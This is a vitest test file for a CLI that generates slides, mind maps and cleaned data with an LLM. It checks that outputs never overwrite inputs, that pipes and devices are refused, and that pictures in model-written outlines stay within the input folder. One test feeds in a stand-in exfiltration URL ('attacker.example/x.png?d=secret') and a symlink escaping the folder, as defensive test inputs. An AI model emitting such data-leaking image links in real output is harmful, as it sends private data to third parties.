import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import JSZip from 'jszip';
import { runCli } from '../cli/run-cli';
import { expectRefusal, mockLlmForFile, workdir } from '../cli/refusal';

// The CLI never replaces an input with an output, reads only regular files, and takes pictures a
// (model-written) outline names only from the input's own folder.

const { llm, env } = mockLlmForFile();

const NOTES = '# 周会\n\n## 进展\n- 预算\n';
const PNG = readFileSync(join(__dirname, '../../../assets/icon-32.png'));

describe('an output never replaces an input', () => {
  it('mindmap notes.md --generate -o notes.xmind: the Markdown kept beside the map would be notes.md itself', async () => {
    const w = workdir({ 'notes.md': NOTES });
    llm().setHandler(() => ({ content: '# Map\n\n## A\n- b\n' }));
    const r = await runCli(['mindmap', join(w.dir, 'notes.md'), '--generate', '-o', join(w.dir, 'notes.xmind')], env());
    expectRefusal(
      r,
      `Writing ${join(w.dir, 'notes.xmind')} also writes ${join(w.dir, 'notes.md')} beside it, and that is the same file as the input ${join(w.dir, 'notes.md')}`,
    );
    expect(readFileSync(join(w.dir, 'notes.md'), 'utf8')).toBe(NOTES);
    w.unchanged();
  });

  it('clean d.csv --suggest --plan d.csv, also as ./d.csv from its folder and through a symlink', async () => {
    const w = workdir({ 'd.csv': 'a,b\n1,2\n' });
    symlinkSync(join(w.dir, 'd.csv'), join(w.dir, 'link.csv'));
    for (const [data, plan] of [
      ['d.csv', 'd.csv'],
      ['./d.csv', 'd.csv'],
      ['d.csv', 'link.csv'],
      [join(w.dir, 'sub', '..', 'd.csv'), 'd.csv'],
    ]) {
      mkdirSync(join(w.dir, 'sub'), { recursive: true });
      const r = await runCli(['clean', data, '--suggest', '--plan', plan], env(), { cwd: w.dir });
      expectRefusal(r, 'is the same file as the input');
    }
    expect(readFileSync(join(w.dir, 'd.csv'), 'utf8')).toBe('a,b\n1,2\n');
  });

  it('proofread --apply -o onto its own input, and clean -o onto its plan, are refused before anything is read', async () => {
    const w = workdir({ 'r.md': '你好,世界\n', 'plan.csv': '{"steps":[]}', 'd.csv': 'a\n1\n' });
    expectRefusal(
      await runCli(['proofread', join(w.dir, 'r.md'), '--local', '--apply', '-o', join(w.dir, 'r.md')], env()),
      `${join(w.dir, 'r.md')} is the same file as the input ${join(w.dir, 'r.md')}`,
    );
    expectRefusal(
      await runCli(['clean', join(w.dir, 'd.csv'), '--plan', join(w.dir, 'plan.csv'), '-o', join(w.dir, 'plan.csv')], env()),
      'is the same file as the input',
    );
    w.unchanged();
    expect(readFileSync(join(w.dir, 'r.md'), 'utf8')).toBe('你好,世界\n');
  });

  it('slides outline.md --notes -o x.pptx where x.outline.md is the input', async () => {
    const w = workdir({ 'x.outline.md': '# Deck\n\n## One\n- a\n' });
    const r = await runCli(['slides', join(w.dir, 'x.outline.md'), '--notes', '-o', join(w.dir, 'x.pptx')], env());
    expectRefusal(r, 'also writes');
    w.unchanged();
  });
});

describe('only regular files are read', () => {
  it('a named pipe is "not a regular file" at once, not a hang or "is a folder"', async () => {
    const w = workdir();
    execFileSync('mkfifo', [join(w.dir, 'pipe.md')]);
    for (const args of [
      ['slides', join(w.dir, 'pipe.md'), '-o', join(w.dir, 'd.pptx')],
      ['mindmap', join(w.dir, 'pipe.md'), '-o', join(w.dir, 'm.xmind')],
      ['profile', join(w.dir, 'pipe.md')],
    ]) {
      expectRefusal(await runCli(args, env()), `${join(w.dir, 'pipe.md')} is not a regular file (it is a device, a pipe or a socket).`);
    }
    expectRefusal(await runCli(['minutes', '/dev/zero', '-o', join(w.dir, 'm.md')], env()), '/dev/zero is not a regular file');
    expectRefusal(await runCli(['ask', 'hi'], { ...env(), DSPLUS_CONFIG: '/dev/zero' }), '/dev/zero is not a regular file');
  });
});

describe('pictures in a model-written outline', () => {
  const deckWith = (src: string) => `# Deck\n\n## Picture\n\n![pic](${src})\n\n## Text\n- a\n`;

  async function mediaIn(path: string): Promise<string[]> {
    const zip = await JSZip.loadAsync(readFileSync(path));
    return Object.keys(zip.files).filter((n) => n.startsWith('ppt/media/'));
  }

  it(
    '/dev/zero, a FIFO and a private file outside the folder are each a labelled frame with the reason; the deck is still made',
    { timeout: 60_000 },
    async () => {
      const w = workdir();
      const outside = workdir({ 'photo.png': PNG });
      execFileSync('mkfifo', [join(w.dir, 'pipe.png')]);
      for (const [src, sentence] of [
        ['/dev/zero', 'The picture /dev/zero is outside the folder'],
        [join(w.dir, 'pipe.png'), `The picture ${join(w.dir, 'pipe.png')} is not a regular file`],
        [join(outside.dir, 'photo.png'), `The picture ${join(outside.dir, 'photo.png')} is outside the folder`],
        ['https://attacker.example/x.png?d=secret', 'the command line never fetches web addresses'],
      ]) {
        llm().setHandler(() => ({ content: deckWith(src) }));
        const r = await runCli(['slides', '--topic', 'pictures', '-o', join(w.dir, 'deck.pptx')], env(), { cwd: w.dir });
        expect(r.status).toBe(0);
        expect(r.stderr).toContain(sentence);
        expect(await mediaIn(join(w.dir, 'deck.pptx'))).toEqual([]);
      }
    },
  );

  it('a symlink inside the folder that points outside it is refused; a picture really inside is embedded', { timeout: 60_000 }, async () => {
    const outside = workdir({ 'photo.png': PNG });
    const w = workdir({ 'logo.png': PNG });
    symlinkSync(join(outside.dir, 'photo.png'), join(w.dir, 'sneaky.png'));
    llm().setHandler(() => ({ content: deckWith('sneaky.png') }));
    const bad = await runCli(['slides', '--topic', 'x', '-o', join(w.dir, 'a.pptx')], env(), { cwd: w.dir });
    expect(bad.stderr).toContain('The picture sneaky.png is outside the folder');
    expect(await mediaIn(join(w.dir, 'a.pptx'))).toEqual([]);
    llm().setHandler(() => ({ content: deckWith('logo.png') }));
    const good = await runCli(['slides', '--topic', 'x', '-o', join(w.dir, 'b.pptx')], env(), { cwd: w.dir });
    expect(good.stderr).not.toContain('picture');
    expect((await mediaIn(join(w.dir, 'b.pptx'))).length).toBe(1);
  });

  it('an outline file’s own pictures come from its own folder, whatever the working folder', async () => {
    const w = workdir({ 'logo.png': PNG, 'talk.md': deckWith('logo.png') });
    writeFileSync(join(w.dir, 'talk.md'), deckWith('logo.png'));
    const r = await runCli(['slides', join(w.dir, 'talk.md'), '-o', join(w.dir, 'talk.pptx')], env(), { cwd: '/' });
    expect(r.status).toBe(0);
    expect((await mediaIn(join(w.dir, 'talk.pptx'))).length).toBe(1);
  });
});
